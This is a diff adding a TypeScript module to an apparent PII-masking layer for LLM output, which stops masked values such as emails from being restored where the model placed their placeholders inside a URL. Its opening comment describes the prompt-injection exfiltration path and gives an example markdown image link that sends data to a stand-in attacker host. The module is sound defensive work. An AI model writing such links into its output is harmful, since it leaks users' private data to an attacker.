@@ -1,0 +1,42 @@
+// `restore: true` gives the caller back the values the request's placeholders stood for, wherever
+// the model wrote the placeholder. Written into a URL the model chose
+// (`![x](https://attacker.test/p.png?d=<EMAIL_1>)`), the value leaves with the request a rendering
+// client makes for it — the prompt-injection exfiltration path masking was meant to close. So a
+// placeholder inside a URL is not restored: it stays as it is, for the caller as for the record.
+// "Inside a URL" is read from the text of its line before it: the run of characters right before it
+// holds URL syntax (`://`, `/`, `?`, `=`, `&`, `#`, `%`, `:`, `](`, `www.`), or a markdown link
+// target, an HTML tag, a quoted attribute value or a CSS `url(` is still open on that line. Streams
+// remember the end of the line they released (lineTail), so a URL opened earlier still counts.
+import type { Match } from "./match-scanner.js";
+
+/** The most of a line a stream remembers for the check. */
+const LINE = 2048;
+
+/** The end of the current line of `text`, at most LINE characters. */
+export function lineTail(text: string): string {
+  const start = Math.max(text.lastIndexOf("\n") + 1, text.length - LINE);
+  return start === 0 ? text : text.slice(start);
+}
+
+const urlRun = /[:/\\?=&#%]|\]\(|www\./i;
+const openConstruct = /\]\([^)]*$|<[a-zA-Z][^<>]*$|=\s*"[^"]*$|=\s*'[^']*$|url\(\s*[^)]*$/i;
+
+/** Whether a placeholder right after `before` (the text of its line before it) sits in a URL. */
+export function insideUrl(before: string): boolean {
+  const line = lineTail(before);
+  let start = line.length;
+  while (start > 0 && !/\s/.test(line[start - 1] as string)) start--;
+  return urlRun.test(line.slice(start)) || openConstruct.test(line);
+}
+
+/** `matches` of `text` with the restorations that sit in URLs withheld; `line` is the released line before `text[from]` (placeholders start at or after `from`). */
+export function withholdInUrls(matches: Match[], text: string, from: number, line: string): Match[] {
+  let out: Match[] | undefined;
+  for (let index = 0; index < matches.length; index++) {
+    const match = matches[index] as Match;
+    if (!match.entry?.restore || !insideUrl(line + text.slice(from, Math.max(from, match.start)))) continue;
+    out ??= [...matches];
+    out[index] = { ...match, entry: { ...match.entry, restore: false } };
+  }
+  return out ?? matches;
+}
